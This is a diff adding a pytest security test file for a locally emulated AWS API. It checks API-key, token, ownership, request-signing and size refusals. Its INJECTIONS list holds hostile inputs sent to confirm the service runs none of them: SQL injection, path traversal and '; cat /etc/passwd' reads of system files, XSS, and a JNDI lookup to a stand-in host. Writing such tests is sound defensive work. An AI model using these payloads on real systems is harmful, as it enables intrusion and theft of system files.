@@ -1,0 +1,409 @@
+"""Bad callers: whom each door turns away, and with which answer."""
+
+from __future__ import annotations
+
+import base64
+import json
+import uuid
+from collections.abc import Callable, Iterator
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+from botocore.auth import SigV4Auth
+from botocore.awsrequest import AWSRequest
+from botocore.credentials import Credentials
+
+from local.emulator import client
+from local.stack import Stack
+from tests.local.api import EXPOSED, POOL, Answer, Api
+from tests.local.people import People, forgeries, parts
+from tests.local.runner import Local
+
+
+@pytest.fixture(scope="module")
+def people(local: Local) -> People:
+    """The users of the stack's pool."""
+    return People(local)
+
+
+@pytest.fixture(scope="module")
+def notes(local: Local) -> Api:
+    """The collection of an entity whose items have owners, for callers without a token."""
+    return Api(local.api("notes").url, None)
+
+
+@pytest.fixture(scope="module")
+def alice(people: People, notes: Api) -> Api:
+    """The notes as Alice has them, who is in no group."""
+    return notes.as_bearer(people.token("alice"))
+
+
+@pytest.fixture(scope="module")
+def bob(people: People, notes: Api) -> Api:
+    """The notes as Bob has them, who is one of the admins."""
+    return notes.as_bearer(people.token("bob", "admins"))
+
+
+# --- API keys ---
+
+
+@pytest.fixture(scope="module")
+def stray_keys(local: Local) -> Iterator[dict[str, str]]:
+    """Keys that the account has, and that open nothing here."""
+    gateway, stage = client("apigateway", Stack(local.folder).running()), local.outputs()
+    value = "a-stray-key-of-the-account-{}".format
+    outside = gateway.create_api_key(name="outside", enabled=True, value=value("outside"))["id"]
+    disabled = gateway.create_api_key(name="disabled", enabled=False, value=value("disabled"))["id"]
+    elsewhere = gateway.create_api_key(name="elsewhere", enabled=True, value=value("elsewhere"))["id"]
+    plan = gateway.create_usage_plan(name="elsewhere")["id"]
+    gateway.create_usage_plan_key(usagePlanId=plan, keyId=elsewhere, keyType="API_KEY")
+    gateway.create_usage_plan_key(
+        usagePlanId=stage["usage_plan_ids"]["standard"], keyId=disabled, keyType="API_KEY"
+    )
+    try:
+        yield {name: value(name) for name in ("outside", "disabled", "elsewhere")}
+    finally:
+        gateway.delete_usage_plan(usagePlanId=plan)
+        for key in (outside, disabled, elsewhere):
+            gateway.delete_api_key(apiKey=key)
+
+
+@pytest.mark.parametrize("key", ["outside", "disabled", "elsewhere"])
+def test_a_key_outside_the_plan_is_403(items: Api, stray_keys: dict[str, str], key: str) -> None:
+    items("GET", X_Api_Key=stray_keys[key]).problem(403, "forbidden")
+
+
+def test_a_key_is_compared_as_a_whole(items: Api) -> None:
+    assert items.key
+    for key in (items.key[:-1], items.key + "x", items.key.swapcase(), f'"{items.key}"', "*", "' OR '1'='1"):
+        items("GET", X_Api_Key=key).problem(403, "forbidden")
+    items("GET", f"?api_key={items.key}&x-api-key={items.key}", X_Api_Key=None).problem(403, "forbidden")
+
+
+def test_an_exhausted_quota_is_429_and_is_one_keys_own(local: Local, items: Api) -> None:
+    trial = Api(items.url, local.outputs()["api_keys"]["trial"])
+    assert [trial("GET").status for _ in range(2)] == [200, 200]
+    for _ in range(2):
+        answer = trial("GET")
+        answer.problem(429, "too-many-requests")
+        assert answer.headers["Retry-After"] == "3600"
+    assert items("GET").status == 200
+
+
+def test_a_key_is_no_sign_in_and_a_token_no_key(items: Api, alice: Api) -> None:
+    alice("GET", Authorization=None, X_Api_Key=items.key).problem(401, "unauthorized")
+    items("GET", X_Api_Key=None, Authorization=f"Bearer {alice.token}").problem(403, "forbidden")
+
+
+# --- tokens ---
+
+SIGNED_IN = [
+    ("GET", ""),
+    ("POST", ""),
+    ("GET", "/any"),
+    ("PUT", "/any"),
+    ("PATCH", "/any"),
+    ("DELETE", "/any"),
+]
+
+
+def refused(answer: Answer) -> None:
+    answer.problem(401, "unauthorized")
+    assert answer.headers["WWW-Authenticate"] == "Bearer"
+
+
+@pytest.mark.parametrize(("method", "path"), SIGNED_IN)
+def test_nobody_comes_in_without_a_token(notes: Api, method: str, path: str) -> None:
+    refused(notes(method, path, {} if method[0] == "P" else None))
+
+
+def test_forged_and_expired_tokens_are_401(people: People, notes: Api, alice: Api) -> None:
+    assert alice.token
+    for what, token in forgeries(alice.token, people.key).items():
+        refused_here = notes.as_bearer(token)("GET")
+        assert refused_here.status == 401, what
+        refused(refused_here)
+
+
+def test_another_pools_token_is_401(people: People, notes: Api) -> None:
+    token = people.stranger()
+    assert parts(token)[1]["token_use"] == "access"
+    refused(notes.as_bearer(token)("GET"))
+
+
+def test_access_tokens_alone_pass(people: People, notes: Api) -> None:
+    tokens = people.tokens(f"carol-{uuid.uuid4()}")
+    for kind in ("IdToken", "RefreshToken"):
+        refused(notes.as_bearer(tokens[kind])("GET"))
+    assert notes.as_bearer(tokens["AccessToken"])("GET").status == 200
+
+
+def test_a_token_travels_in_its_header_alone(notes: Api, alice: Api) -> None:
+    refused(notes("GET", f"?access_token={alice.token}&Authorization={alice.token}"))
+    refused(notes("GET", Cookie=f"Authorization={alice.token}"))
+    refused(notes("GET", Authorization=f"Basic {base64.b64encode(b'alice:secret').decode()}"))
+
+
+def test_a_missing_scope_is_401(people: People, notes: Api, alice: Api) -> None:
+    refused(alice("PUT", "/any", {"title": "a"}))
+    machine = notes.as_bearer(people.machine())
+    machine("PUT", "/any", {"title": "a"}).problem(404, "not-found")
+
+
+def test_a_missing_group_is_403(alice: Api, bob: Api) -> None:
+    own = alice.make({"title": "hers"})
+    alice("DELETE", own.location).problem(403, "forbidden")
+    alice("DELETE", "/not-there").problem(403, "forbidden")
+    assert alice("GET", own.location).status == 200
+    assert bob("DELETE", bob.make({"title": "his"}).location).status == 204
+
+
+# --- owners ---
+
+
+def test_anothers_item_is_not_there(alice: Api, bob: Api) -> None:
+    hers = alice.make({"title": "hers"})
+    etag, sub = hers.headers["ETag"], parts(str(alice.token))[1]["sub"]
+    bob("GET", hers.location).problem(404, "not-found")
+    bob("GET", hers.location, If_None_Match=etag).problem(404, "not-found")
+    bob("PATCH", hers.location, {"title": "his"}).problem(404, "not-found")
+    bob("PATCH", hers.location, {"title": "his"}, If_Match=etag).problem(404, "not-found")
+    bob("DELETE", hers.location).problem(404, "not-found")
+    bob("GET", f"/{sub}%23{hers.json['id']}").problem(400, "invalid-request")
+    assert alice("GET", hers.location).json == hers.json
+    assert hers.json["id"] not in {item["id"] for item in bob("GET", "?limit=100").json["items"]}
+
+
+def test_an_id_that_another_has_is_free(alice: Api, bob: Api) -> None:
+    chosen = str(uuid.uuid4())
+    hers = alice.make({"id": chosen, "title": "hers"})
+    his = bob.make({"id": chosen, "title": "his"})
+    assert hers.location == his.location
+    assert alice("GET", hers.location).json == hers.json
+    assert bob("GET", his.location).json == his.json
+    alice("POST", body={"id": chosen, "title": "again"}).problem(409, "conflict")
+
+
+@pytest.mark.parametrize("query", ["", "&tag=home", "&pinned=true&order=desc"])
+def test_anothers_cursor_is_400(alice: Api, bob: Api, query: str) -> None:
+    for title in ("a", "b"):
+        for api in (alice, bob):
+            api.make({"title": title, "tag": "home", "pinned": True})
+    cursor = alice("GET", f"?limit=1{query}").json["next"]
+    assert alice("GET", f"?limit=1{query}&cursor={quote(cursor)}").status == 200
+    bob("GET", f"?limit=1{query}&cursor={quote(cursor)}").problem(400, "invalid-request")
+
+
+def test_a_filter_shows_the_callers_own(alice: Api, bob: Api) -> None:
+    tag = uuid.uuid4().hex
+    hers = alice.make({"title": "hers", "tag": tag})
+    sub = parts(str(alice.token))[1]["sub"]
+    assert [item["id"] for item in alice("GET", f"?tag={tag}").json["items"]] == [hers.json["id"]]
+    for value in (tag, f"{sub}#s:{tag}", f"{sub}#{tag}", f"s:{tag}"):
+        assert bob("GET", f"?tag={quote(value)}").json["items"] == []
+
+
+def test_an_idempotency_key_is_the_callers_own(alice: Api, bob: Api) -> None:
+    key = str(uuid.uuid4())
+    hers, his, again = (
+        api("POST", body={"title": "once"}, Idempotency_Key=key) for api in (alice, bob, alice)
+    )
+    assert (hers.status, his.status, again.status) == (201, 201, 201)
+    assert "Idempotency-Replayed" not in his.headers
+    assert (again.headers["Idempotency-Replayed"], again.json) == ("true", hers.json)
+    bob("GET", hers.location).problem(404, "not-found")
+    bob("POST", body={"title": "another"}, Idempotency_Key=key).problem(422, "idempotency-key-reused")
+
+
+def test_a_body_does_not_name_its_owner(alice: Api, bob: Api) -> None:
+    sub = parts(str(bob.token))[1]["sub"]
+    made = alice.make({"title": "hers", "owner": sub, "sub": sub, "collection": f"{sub}#notes"})
+    bob("GET", made.location).problem(404, "not-found")
+    assert alice("GET", made.location).json["owner"] == sub, "a property like any other"
+
+
+# --- signatures ---
+
+
+@pytest.fixture(scope="module")
+def ledger(local: Local) -> Api:
+    """The collection of an entity for signed requests."""
+    return Api(local.api("ledger").url, None)
+
+
+@pytest.fixture(scope="module")
+def identities(local: Local) -> Iterator[dict[str, Credentials]]:
+    """Two of the account's users: one may call the API, the other nothing."""
+    iam, url = client("iam", Stack(local.folder).running()), local.outputs()["api_url"]
+    arn = f"arn:aws:execute-api:*:*:{url.split('/')[-2]}/*"
+    policy = {"Effect": "Allow", "Action": "execute-api:Invoke", "Resource": arn}
+    found = {}
+    for name in ("caller", "nobody"):
+        iam.create_user(UserName=name)
+        key = iam.create_access_key(UserName=name)["AccessKey"]
+        found[name] = Credentials(key["AccessKeyId"], key["SecretAccessKey"])
+    document = json.dumps({"Version": "2012-10-17", "Statement": [policy]})
+    iam.put_user_policy(UserName="caller", PolicyName="call", PolicyDocument=document)
+    try:
+        yield found
+    finally:
+        iam.delete_user_policy(UserName="caller", PolicyName="call")
+        for name, credentials in found.items():
+            iam.delete_access_key(UserName=name, AccessKeyId=credentials.access_key)
+            iam.delete_user(UserName=name)
+
+
+Sign = Callable[..., Answer]
+
+
+@pytest.fixture(scope="module")
+def sign(local: Local, ledger: Api) -> Sign:
+    """Sends a signed request; `changed` is what of it is changed after it was signed."""
+    here = Stack(local.folder).running().region
+
+    def send(
+        credentials: Credentials, method: str = "GET", body: bytes | None = None,
+        changed: dict[str, Any] | None = None, service: str = "execute-api", region: str = here,
+    ) -> Answer:  # fmt: skip
+        request = AWSRequest(method, ledger.url, data=body, headers={"Content-Type": "application/json"})
+        SigV4Auth(credentials, service, region).add_auth(request)
+        sent: dict[str, Any] = {"method": method, "url": ledger.url, "body": body, **(changed or {})}
+        sent["headers"] = {**dict(request.headers), **sent.get("headers", {})}
+        answer = POOL.request(redirect=False, **sent)
+        return Answer(sent["url"], answer.status, answer.headers, answer.data)
+
+    return send
+
+
+def test_a_signed_request_passes(identities: dict[str, Credentials], sign: Sign) -> None:
+    made = sign(identities["caller"], "POST", b'{"amount": 5}')
+    assert made.status == 201, made.content
+    assert made.json["id"] in {item["id"] for item in sign(identities["caller"]).json["items"]}
+
+
+def test_an_unsigned_request_is_404(ledger: Api) -> None:
+    for method, body in (("GET", None), ("POST", {})):
+        assert "signature" in ledger(method, body=body).problem(404, "not-found")["detail"]
+
+
+# What each does that a good caller does not.
+WRONGLY_SIGNED: dict[str, Callable[[Sign, Credentials, Credentials], Answer]] = {
+    "by one without the right": lambda sign, caller, nobody: sign(nobody),
+    "with another's secret": lambda sign, caller, nobody: sign(
+        Credentials(caller.access_key, nobody.secret_key)
+    ),
+    "with an unknown key": lambda sign, caller, nobody: sign(
+        Credentials("AKIA" + "X" * 16, caller.secret_key)
+    ),
+    "for another service": lambda sign, caller, nobody: sign(caller, service="s3"),
+    "for another region": lambda sign, caller, nobody: sign(caller, region="eu-north-1"),
+    "with another body": lambda sign, caller, nobody: sign(
+        caller, "POST", b'{"amount": 5}', {"body": b'{"amount": 5000}'}
+    ),
+    "with another method": lambda sign, caller, nobody: sign(caller, "POST", None, {"method": "GET"}),
+    "with another query": lambda sign, caller, nobody: sign(caller, changed={"fields": {"limit": "100"}}),
+    "at another time": lambda sign, caller, nobody: sign(
+        caller, changed={"headers": {"X-Amz-Date": "20200101T000000Z"}}
+    ),
+    "with half a signature": lambda sign, caller, nobody: sign(
+        caller, changed={"headers": {"Authorization": "AWS4-HMAC-SHA256 Credential=a, Signature=b"}}
+    ),
+    "with a token": lambda sign, caller, nobody: sign(
+        caller, changed={"headers": {"Authorization": "Bearer nothing"}}
+    ),
+}
+
+
+@pytest.mark.parametrize("how", WRONGLY_SIGNED)
+def test_a_wrongly_signed_request_is_403(identities: dict[str, Credentials], sign: Sign, how: str) -> None:
+    WRONGLY_SIGNED[how](sign, identities["caller"], identities["nobody"]).problem(403, "forbidden")
+
+
+# --- sizes ---
+
+
+def test_an_oversized_header_is_refused(items: Api, alice: Api) -> None:
+    """AWS refuses headers of more than 10 KB together; what passes here is judged by the function."""
+    for size in (300, 9_000, 60_000):
+        items("POST", body={}, Idempotency_Key="x" * size).problem(400, "invalid-request")
+        items("GET", X_Api_Key="x" * size).problem(403, "forbidden")
+        refused(alice("GET", Authorization=f"Bearer {alice.token}{'x' * size}"))
+    made = alice.make({"title": "hers"})
+    for tags in (", ".join(f'"{number}"' for number in range(1_000)), "x" * 9_000, '"' + "x" * 60_000):
+        alice("PATCH", made.location, {"title": "new"}, If_Match=tags).problem(400, "invalid-request")
+
+
+@pytest.mark.parametrize("size", [400 * 1024 + 1, 7 * 1024**2, 11 * 1024**2])
+def test_an_oversized_body_is_413(items: Api, size: int) -> None:
+    for body in (b" " * size, b'{"a": "' + b"x" * size + b'"}', b"[" * size):
+        items("POST", body=body, Content_Type="application/json").problem(413, "content-too-large")
+
+
+# --- injections ---
+
+INJECTIONS = [
+    "' OR '1'='1", '"; DROP TABLE items; --', '{"$gt": ""}', '{"S": "x"}', "#c = :c OR attribute_exists(id)",
+    "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "<script>alert(1)</script>", "${jndi:ldap://x.example/a}",
+    "{{7*7}}", "$context.requestId", "#set($x=7*7)$x", "x\r\nSet-Cookie: a=b", "x\0y", "__proto__", "*",
+    "\u202egnp", "; cat /etc/passwd", "arn:aws:dynamodb:*:*:table/*", "a" * 1_000,
+]  # fmt: skip
+PARAMETERS = {
+    "limit": 400, "cursor": 400, "order": 400, "fields": 200, "pinned": 400, "tag": 200,
+    "tag=home&title.prefix": 200, "tag=home&title.gte": 200, "unknown": 400,
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("parameter", PARAMETERS)
+def test_what_a_parameter_says_is_never_run(alice: Api, parameter: str) -> None:
+    for text in INJECTIONS:
+        harmless(alice("GET", f"?{parameter}={quote(text, safe='')}"), PARAMETERS[parameter])
+
+
+def test_what_a_parameter_is_called_is_never_run(alice: Api) -> None:
+    for text in INJECTIONS:
+        harmless(alice("GET", f"?{quote(text, safe='')}=1"), 400)
+
+
+@pytest.mark.parametrize("method", ["GET", "PUT", "PATCH", "DELETE"])
+def test_what_an_id_says_is_never_run(items: Api, method: str) -> None:
+    for text in INJECTIONS:
+        harmless(items(method, f"/{quote(text, safe='')}", {} if method[0] == "P" else None), 400, 404)
+
+
+# What each header is sent with, and the answers to what makes no sense in it.
+HEADERS: dict[str, tuple[Any, ...]] = {
+    "Authorization": ("GET", 401), "Content-Type": ("POST", 201, 415), "Cookie": ("GET", 200),
+    "Idempotency-Key": ("POST", 201, 400), "If-Match": ("DELETE", 403),
+    "If-None-Match": ("GET", 200, 304, 400), "Origin": ("GET", 200), "User-Agent": ("GET", 200),
+    "X-Api-Key": ("GET", 200), "X-Forwarded-For": ("GET", 200), "X-HTTP-Method-Override": ("GET", 200),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("header", HEADERS)
+def test_what_a_header_says_is_never_run(alice: Api, header: str) -> None:
+    made = alice.make({"title": "hers"})
+    method, *statuses = HEADERS[header]
+    for text in filter(str.isprintable, INJECTIONS):  # others cannot be in a header
+        sent = ("", {"title": "a"}) if method == "POST" else (made.location, None)
+        harmless(alice(method, *sent, **{header: text}), *statuses)
+
+
+def test_what_a_body_says_is_kept_as_it_is(alice: Api) -> None:
+    for text in INJECTIONS:
+        made = alice.make({"title": text[:200], text: {text: [text]}})
+        assert alice("GET", made.location).json == made.json
+        assert made.json[text] == {text: [text]}
+        harmless(made, 201)
+
+
+def harmless(answer: Answer, *statuses: int) -> None:
+    """Check that an answer has one of the statuses, is JSON for any browser, and tells nothing of inside."""
+    assert answer.status in statuses, answer.content
+    assert answer.headers["Access-Control-Allow-Origin"] == "*"
+    assert set(answer.headers["Access-Control-Expose-Headers"].split(", ")) == EXPOSED
+    assert "Set-Cookie" not in answer.headers
+    if answer.status >= 400:
+        answer.problem(answer.status, answer.json["type"].rpartition(":")[2])
+    for inside in (b"Traceback", b"trestle-", b"dynamodb.", b"root:"):
+        assert inside not in answer.content
